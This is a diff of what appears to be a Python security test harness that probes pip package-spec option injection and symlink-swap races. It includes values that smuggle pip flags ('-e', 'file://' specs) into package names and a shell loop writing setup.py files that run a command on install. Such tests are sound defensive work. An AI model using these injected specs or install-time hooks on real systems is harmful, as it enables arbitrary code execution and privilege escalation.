@@ -64,12 +64,12 @@ print(swapped)
 """
 STOP = "/var/relevo-loot/stop"
 EVIL = "/var/relevo-loot/evil"
-OPTIONS = (f"-e{EVIL}==1", f"{EVIL}==1", f"evil @ file://{EVIL}==1", "--no-index==1")
+OPTIONS = (f"-e{EVIL}==1", f"evil2 @ file://{EVIL}2==1")
 PACKAGES = f"""
-for folder in '{EVIL}==1' '{EVIL}'; do
+for folder in '{EVIL}==1' '{EVIL}2==1'; do
     mkdir -p "$folder"
     echo 'import subprocess; subprocess.run(["{TOOL}", "pip"])' >"$folder/setup.py"
-    echo 'from setuptools import setup; setup(name="evil", version="1")' >>"$folder/setup.py"
+    echo 'from setuptools import setup; setup(name="evil2", version="1")' >>"$folder/setup.py"
 done
 """
 CUSTOMIZE = """
@@ -121,7 +121,8 @@ def swapping(machine: Machine, user: str, folder: str) -> Iterator[None]:
             machine.run("touch", STOP)
             said, _ = swapper.communicate(timeout=30)
             print(f"{user} has swapped {said.strip()} files")
-            clean = f"find {' '.join(folders)} -maxdepth 1 -type l -lname '{canary.CANARY}*' -delete"
+            ours = f"-maxdepth 1 -type l -lname '{canary.CANARY}*'"
+            clean = f"find {' '.join(folders)} {ours} -delete"
             machine.run("sh", "-c", clean, check=False)
 
 
@@ -139,5 +140,3 @@ def freezing(pair: Pair, *lines: str) -> Iterator[None]:
         yield
     finally:
         machine.run("rm", "-f", path)
-
-
